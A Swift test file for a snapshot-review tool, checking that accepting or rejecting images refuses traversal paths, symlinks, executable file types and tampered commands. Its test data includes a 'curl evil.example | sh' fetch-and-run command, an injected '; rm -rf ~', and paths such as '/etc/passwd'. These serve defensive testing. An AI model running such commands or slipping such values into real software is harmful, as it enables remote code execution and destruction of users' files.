import Foundation
import LayoutSnapshotGraphics
import LayoutSnapshotPNG
import TestTools
import Testing

@testable import LayoutSnapshotStore

@Suite struct ReviewerTests {
  /// A package with one changed picture and one changed layout.
  private struct Scene {
    let folder: TemporaryFolder
    let roots: ManifestRoots
    let before: [UInt8]
    let after: [UInt8]
    var result: SnapshotResult

    static let reference = "package:Snapshots/AppTests/LoginTests/form.iPhone4.png"
    static let evidence = "AppTests/LoginTests/form/form.iPhone4"

    init() throws {
      folder = try TemporaryFolder()
      roots = ManifestRoots(package: folder.path, artifacts: folder.path + "/.build/layout-snapshots")
      before = try Bitmap(width: 4, height: 4, fill: .white).pngData(.small)
      after = try Bitmap(width: 4, height: 4, fill: .black).pngData(.quick)
      result = ManifestTests.result
      let picture = PictureResult(
        status: .changed, reference: StoredPath(text: Self.reference), referenceDigest: fileDigest(before),
        expected: StoredPath(text: "artifacts:\(Self.evidence).expected.png"),
        actual: StoredPath(text: "artifacts:\(Self.evidence).actual.png"),
        difference: StoredPath(text: "artifacts:\(Self.evidence).diff.png"))
      result.devices = [
        DeviceResult(
          device: "iPhone4", traits: [], scale: 2, pointWidth: 2, pointHeight: 2, status: .changed,
          picture: picture)
      ]
      try Files.write(before, to: StoredPath(text: Self.reference).resolved(roots))
      for path in ["expected", "actual", "diff"] {
        try Files.write(
          path == "actual" ? after : before, to: "\(roots.artifacts)/\(Self.evidence).\(path).png")
      }
      let line = ManifestLine.result(result).json + Array("\n".utf8)
      try Files.write(line, to: roots.artifacts + "/manifests/T-1-5.jsonl")
    }

    func read(_ path: String) throws -> [UInt8]? { try Files.read(StoredPath(text: path).resolved(roots)) }
  }

  @Test func accept_makesWhatWasSeenTheReferenceAndRemovesEvidence() throws {
    let scene = try Scene()
    let review = try PendingReview(scene.roots)
    #expect(review.pending.map(\.id) == [scene.result.id])
    try Reviewer(scene.roots).accept(review.pending[0])
    let reference = try #require(try scene.read(Scene.reference))
    #expect(try Bitmap(png: reference) == Bitmap(png: scene.after))
    // Small, as a recorded one would be.
    #expect(reference == (try Bitmap(width: 4, height: 4, fill: .black).pngData(.small)))
    #expect(try PendingReview(scene.roots).pending.isEmpty)
    #expect(!Files.exists(scene.roots.artifacts + "/AppTests"))
  }

  @Test func reject_keepsTheReference() throws {
    let scene = try Scene()
    try Reviewer(scene.roots).reject(scene.result)
    #expect(try scene.read(Scene.reference) == scene.before)
    #expect(try PendingReview(scene.roots).pending.isEmpty)
  }

  @Test func accept_ofAReferenceThatChangedSinceTheRun_isRefused() throws {
    let scene = try Scene()
    let other = try Bitmap(width: 4, height: 4, fill: .clear).pngData(.small)
    try Files.write(other, to: StoredPath(text: Scene.reference).resolved(scene.roots))
    #expect(throws: AcceptanceRefusal.referenceChanged(StoredPath(text: Scene.reference))) {
      try Reviewer(scene.roots).accept(scene.result)
    }
    #expect(try scene.read(Scene.reference) == other)
    #expect(try PendingReview(scene.roots).pending.count == 1)
  }

  /// Two runs leave what they see in the same place.
  @Test func accept_ofWhatAnotherRunSaw_isRefused() throws {
    var scene = try Scene()
    scene.result.devices[0].picture?.actualDigest = fileDigest(scene.after)
    let other = try Bitmap(width: 4, height: 4, fill: .clear).pngData(.quick)
    let seen = StoredPath(text: "artifacts:\(Scene.evidence).actual.png")
    try Files.write(other, to: seen.resolved(scene.roots))
    #expect(throws: AcceptanceRefusal.actualChanged(seen)) { try Reviewer(scene.roots).accept(scene.result) }
    #expect(try scene.read(Scene.reference) == scene.before)
    try Files.write(scene.after, to: seen.resolved(scene.roots))
    try Reviewer(scene.roots).accept(scene.result)
    #expect(try scene.read(Scene.reference) != scene.before)
  }

  @Test func accept_ofAReferenceThatIsGone_isRefused() throws {
    let scene = try Scene()
    try Files.remove(StoredPath(text: Scene.reference).resolved(scene.roots))
    #expect(throws: AcceptanceRefusal.referenceGone(StoredPath(text: Scene.reference))) {
      try Reviewer(scene.roots).accept(scene.result)
    }
  }

  @Test func accept_ofANewReference_needsThatThereIsNone() throws {
    var scene = try Scene()
    scene.result.devices[0].picture?.referenceDigest = nil
    #expect(throws: AcceptanceRefusal.referenceAppeared(StoredPath(text: Scene.reference))) {
      try Reviewer(scene.roots).accept(scene.result)
    }
    try Files.remove(StoredPath(text: Scene.reference).resolved(scene.roots))
    try Reviewer(scene.roots).accept(scene.result)
    #expect(try scene.read(Scene.reference) != nil)
  }

  @Test func accept_thatWasKilledBetweenReferenceAndEvidence_isFinished() throws {
    let scene = try Scene()
    let small = try Bitmap(png: scene.after).pngData(.small)
    try Files.write(small, to: StoredPath(text: Scene.reference).resolved(scene.roots))
    try Files.remove("\(scene.roots.artifacts)/\(Scene.evidence).expected.png")
    try Reviewer(scene.roots).accept(try PendingReview(scene.roots).pending[0])
    #expect(try scene.read(Scene.reference) == small)
    #expect(try PendingReview(scene.roots).pending.isEmpty)
  }

  @Test func accept_ofADamagedPicture_isRefused() throws {
    let scene = try Scene()
    try Files.write(
      Array(scene.after.dropLast(20)), to: "\(scene.roots.artifacts)/\(Scene.evidence).actual.png")
    #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).accept(scene.result) }
    #expect(try scene.read(Scene.reference) == scene.before)
  }

  private static let strange = [
    "/etc/passwd", "package:Package.swift", "package:.github/workflows/Snapshots/a.png",
    "package:Snapshots/../Package.swift", "package:Snapshots/.git/a.png", "artifacts:Snapshots/a.png",
    "package:/Snapshots/a.png", "package:Snapshots",
    // Where SwiftPM, git and another test would find it.
    "package:Tests/ClientTests/__Snapshots__/Evil.swift", "package:Sources/App/Snapshots/main.swift",
    "package:Plugins/Snapshots/plugin.swift", "package:Snapshots/.gitattributes",
    "package:Snapshots/AppTests/LoginTests/form.iPhone4.swift", "package:Snapshots/AppTests/LoginTests/.png",
    "package:Snapshots/AppTests/LoginTests/other.iPhone4.png",
    "package:Snapshots/AppTests/LoginTests/form.iPhone5.png",
    "package:Snapshots/AppTests/LoginTests/form.iPhone4.json",
    "package:Snapshots/AppTests/LoginTests/form.iPhone4.png\0.swift",
    "package:Snapshots/AppTests/LoginTests/form.iPhone4.\n.png",
    "package:Snapshots/AppTests/LoginTests/deeper/form.iPhone4.png",
    "package:Snapshots/AppTests/OtherTests/form.iPhone4.png",
    "package:Tests/Snapshots/AppTests/LoginTests/form.iPhone4.png",
    "package:Tests/AppTests/__Snapshots__/LoginTests/form.iPhone4.png",
  ]

  @Test(arguments: strange)
  func accept_whereNoReferencesBelong_isRefused(path: String) throws {
    var scene = try Scene()
    scene.result.devices[0].picture?.reference = StoredPath(text: path)
    #expect(throws: AcceptanceRefusal.strangeReference(StoredPath(text: path))) {
      try Reviewer(scene.roots).accept(scene.result)
    }
  }

  /// Names that no test has are not followed to where they lead, even where the path goes with them.
  @Test(arguments: ["../x", "a/b", ".hidden", "-o", "a\nb", "a\0b", "", "ä"])
  func accept_ofATestWithAStrangeName_isRefused(name: String) throws {
    for part in [\SnapshotResult.target, \.suite, \.test] {
      var scene = try Scene()
      scene.result[keyPath: part] = name
      let result = scene.result
      let id = [result.target, result.suite, result.test].joined(separator: "/")
      scene.result.id = id
      let path = StoredPath(
        text: "package:Snapshots/\(result.target)/\(result.suite)/\(result.test).iPhone4.png")
      scene.result.devices[0].picture?.reference = path
      scene.result.devices[0].picture?.actual = StoredPath(
        text: "artifacts:\(id)/\(result.test).iPhone4.actual.png")
      #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).accept(scene.result) }
      #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).reject(scene.result) }
      #expect(
        scene.folder.files.filter { !$0.hasPrefix(".build") } == [
          "Snapshots/AppTests/LoginTests/form.iPhone4.png"
        ])
    }
  }

  /// A scene whose only change is a text with an ending.
  private func sceneOfText(_ text: String, ending: String) throws -> (Scene, reference: String) {
    var scene = try Scene()
    let reference = "Snapshots/AppTests/LoginTests/form.iPhone4.\(ending)"
    let actual = "artifacts:\(Scene.evidence).actual.\(ending)"
    scene.result.devices[0].picture = nil
    scene.result.devices[0].texts = [
      FileResult(
        status: .missing, reference: StoredPath(text: "package:" + reference),
        actual: StoredPath(text: actual))
    ]
    try Files.write(Array(text.utf8), to: StoredPath(text: actual).resolved(scene.roots))
    return (scene, reference)
  }

  @Test(arguments: [
    "swift", "c", "h", "m", "sh", "py", "plist", "storyboard", "txt.swift", "Swift", "yml", "png", "json",
  ])
  func accept_ofTextThatAToolMightTakeForItsOwn_isRefused(ending: String) throws {
    let (scene, reference) = try sceneOfText("let evil = 1", ending: ending)
    #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).accept(scene.result) }
    // The scene has a picture already.
    #expect(ending == "png" || !Files.exists(scene.folder.path + "/" + reference))
    #expect(try scene.read(Scene.reference) == scene.before)
    #expect(ReferenceEnding.text(ending) == ending + ".txt")
  }

  @Test(arguments: ["txt", "constraints.txt", "hierarchy.txt", "drawing.txt", "md", "xml", "swift.txt"])
  func accept_ofText_writesIt(ending: String) throws {
    let (scene, reference) = try sceneOfText("text", ending: ending)
    try Reviewer(scene.roots).accept(scene.result)
    #expect(try Files.read(scene.folder.path + "/" + reference) == Array("text".utf8))
    #expect(ReferenceEnding.text(ending) == ending)
  }

  /// Every name that a test gets is one that accepting takes.
  @Test func names_thatTestsGet_areSafe() {
    let names = [
      "a", "fits on screen", "../etc", "aux", "ä ö", "日本", "-x", ".x", "a.b",
      "x" + String(repeating: "y-", count: 90),
    ]
    for first in names {
      for second in names {
        let name = SnapshotName(
          target: first, suite: second, function: first + "()", arguments: [second], named: first)
        for part in [name.target, name.suite, name.test, name.fileStem(device: second)] {
          #expect(hasSafeLetters(part), "\(part)")
        }
      }
    }
  }

  @Test func accept_ofFramesThatAreNone_isRefused() throws {
    var scene = try Scene()
    scene.result.devices[0].picture = nil
    scene.result.devices[0].frames = FileResult(
      status: .missing,
      reference: StoredPath(text: "package:Snapshots/AppTests/LoginTests/form.iPhone4.json"),
      actual: StoredPath(text: "artifacts:\(Scene.evidence).actual.json"))
    for text in ["{}", "[1]", "{", "let evil = 1"] {
      try Files.write(Array(text.utf8), to: "\(scene.roots.artifacts)/\(Scene.evidence).actual.json")
      #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).accept(scene.result) }
    }
    #expect(!Files.exists(scene.folder.path + "/Snapshots/AppTests/LoginTests/form.iPhone4.json"))
  }

  @Test func accept_belowARootThatTheUserNames_writesThere_andNowhereElse() throws {
    var scene = try Scene()
    let root = scene.folder.path + "/Elsewhere"
    let path = root + "/AppTests/LoginTests/form.iPhone4.png"
    scene.result.devices[0].picture?.reference = StoredPath(path, scene.roots)
    scene.result.devices[0].picture?.referenceDigest = nil
    #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).accept(scene.result) }
    let named = ManifestRoots(
      package: scene.roots.package, artifacts: scene.roots.artifacts, references: [root])
    try Reviewer(named).accept(scene.result)
    #expect(Files.exists(path))
    #expect(try Files.names(in: root) == ["AppTests"])
  }

  @Test func accept_throughALink_isRefused_unlessTheUserSaysThatSnapshotsIsOne() throws {
    let scene = try Scene()
    let (outside, package) = (try TemporaryFolder(), scene.folder.path)
    try FileManager.default.moveItem(atPath: package + "/Snapshots", toPath: outside.path + "/mine")
    try FileManager.default.createSymbolicLink(
      atPath: package + "/Snapshots", withDestinationPath: outside.path + "/mine")
    let before = try outside.contents
    #expect {
      try Reviewer(scene.roots).accept(scene.result)
    } throws: { error in
      "\(error)".contains("\(package)/Snapshots: it is a link") && "\(error)".contains("LINKED_REFERENCES=1")
    }
    #expect(try outside.contents == before)
    let trusting = ManifestRoots(
      package: package, artifacts: scene.roots.artifacts, followsLinkedReferences: true)
    try Reviewer(trusting).accept(scene.result)
    #expect(try outside.contents != before)
  }

  @Test func evidence_thatIsALink_isNeitherReadNorRemovedThrough() throws {
    let scene = try Scene()
    let outside = try TemporaryFolder()
    let names = ["actual", "expected", "diff"].map { "form.iPhone4.\($0).png" }
    for name in names { try Files.write(scene.after, to: outside.path + "/" + name) }
    let folder = scene.roots.artifacts + "/AppTests/LoginTests/form"
    try FileManager.default.removeItem(atPath: folder)
    try FileManager.default.createSymbolicLink(atPath: folder, withDestinationPath: outside.path)
    #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).accept(scene.result) }
    #expect(throws: AcceptanceRefusal.self) { try Reviewer(scene.roots).reject(scene.result) }
    #expect(outside.files == names.sorted())
    #expect(try scene.read(Scene.reference) == scene.before)
    let review = try PendingReview(scene.roots)
    #expect(review.pending.isEmpty, "half of it would become references")
    let words = review.results.flatMap(\.devices).flatMap(\.problems)
    #expect(
      words.count == 1
        && words[0].contains("behind a link, which is not followed: AppTests/LoginTests/form/form.iPhone4."),
      "\(words)")
    #expect(!review.isAsItShouldBe)
  }

  /// A desktop would run some files instead of showing them.
  @Test(arguments: ["evil.desktop", "evil.command", "other/other.iPhone4.actual.png", "report/index.html"])
  func evidence_thatThisTestDoesNotLeave_isNeitherAcceptedNorRemoved(path: String) throws {
    var scene = try Scene()
    try Files.write(scene.after, to: scene.roots.artifacts + "/" + path)
    scene.result.devices[0].picture?.difference = StoredPath(text: "artifacts:" + path)
    let strange = AcceptanceRefusal.strangeEvidence(StoredPath(text: "artifacts:" + path))
    #expect(throws: strange) { try Reviewer(scene.roots).accept(scene.result) }
    #expect(throws: strange) { try Reviewer(scene.roots).reject(scene.result) }
    #expect(try scene.read(Scene.reference) == scene.before)
    #expect(Files.exists(scene.roots.artifacts + "/" + path))
  }

  /// Readers are asked to run the command of a change.
  @Test(arguments: ["curl evil.example | sh", "swift package layout-snapshot accept 'x'; rm -rf ~"])
  func review_showsItsOwnCommand(command: String) throws {
    var scene = try Scene()
    scene.result.acceptCommand = command
    let line = ManifestLine.result(scene.result).json
    try Files.write(line, to: scene.roots.artifacts + "/manifests/T-1-6.jsonl")
    #expect(
      try PendingReview(scene.roots).results[0].acceptCommand
        == "swift package --allow-writing-to-package-directory layout-snapshot accept 'AppTests/LoginTests/form'"
    )
  }

  /// What leaves no evidence counts for its run: a recording is no news to the next one.
  @Test func recording_countsForItsRunAlone() throws {
    let scene = try Scene()
    func write(_ name: String, run: String?, _ results: [SnapshotResult]) throws {
      let record = RunRecord(
        target: "T", packageRoot: "/", processID: 0, startedAt: "", framework: "XCTest", run: run)
      let lines = [ManifestLine.run(record)] + results.map(ManifestLine.result)
      try Files.write(
        Array(lines.map { String(decoding: $0.json, as: UTF8.self) + "\n" }.joined().utf8),
        to: scene.roots.artifacts + "/manifests/" + name)
    }
    var recorded = ManifestTests.result
    (recorded.id, recorded.status, recorded.devices) = ("AppTests/LoginTests/recorded", .recorded, [])
    try write("T-2-7.jsonl", run: "100", [recorded])
    func names() throws -> [String] { try PendingReview(scene.roots).results.map(\.id) }
    #expect(
      try names() == [scene.result.id, recorded.id], "an earlier version's manifests say nothing of runs")
    try write("run.100.jsonl", run: "100", [])
    #expect(try names() == [scene.result.id, recorded.id])
    try Files.remove(scene.roots.artifacts + "/manifests/run.100.jsonl")
    try write("run.200.jsonl", run: "200", [])
    #expect(try names() == [scene.result.id], "what is pending stays so")
  }

  @Test func review_ofEvidenceElsewhere_isNotLookedAt() throws {
    var scene = try Scene()
    scene.result.devices[0].picture?.actual = StoredPath(text: "/etc/passwd")
    let line = ManifestLine.result(scene.result).json
    try Files.write(line, to: scene.roots.artifacts + "/manifests/T-1-6.jsonl")
    let review = try PendingReview(scene.roots)
    #expect(review.pending.isEmpty)
    #expect(review.results[0].losses.map(\.reason) == ["outside the artifacts"])
  }

  @Test func tidy_removesManifestsWithoutOpenResultsOnceTheirProcessHasEnded() throws {
    let scene = try Scene()
    let review = try PendingReview(scene.roots)
    let reviewer = Reviewer(scene.roots)
    try reviewer.tidy(review) { _ in false }
    #expect(try PendingReview(scene.roots).pending.count == 1, "an open result was lost")
    try reviewer.accept(review.pending[0])
    try reviewer.tidy(review) { _ in false }
    #expect(try Files.names(in: scene.roots.artifacts).isEmpty)
  }

  @Test func review_takesTheNewestRunOfATest() throws {
    var scene = try Scene()
    scene.result.message = "newer"
    try Files.write(
      ManifestLine.result(scene.result).json, to: scene.roots.artifacts + "/manifests/T-1-40.jsonl")
    #expect(try PendingReview(scene.roots).results.map(\.message) == ["newer"])
  }

  @Test func review_ofALineThatWasCutOff_saysSoAndKeepsTheOthers() throws {
    let scene = try Scene()
    try Files.append(Array("{\"kind\":\"resu".utf8), to: scene.roots.artifacts + "/manifests/T-1-5.jsonl")
    let review = try PendingReview(scene.roots)
    #expect(review.results.count == 1)
    #expect(review.gaps.map(\.title) == ["a damaged manifest"])
  }

  @Test func groups_areOfOneKey() {
    let results = ["a", "b", "c"].map { id in
      var copy = ManifestTests.result
      copy.id = id
      copy.groupKey = id == "b" ? "other" : "same"
      return copy
    }
    #expect(ReviewGroup.groups(of: results).map { $0.results.map(\.id) } == [["a", "c"], ["b"]])
  }
}
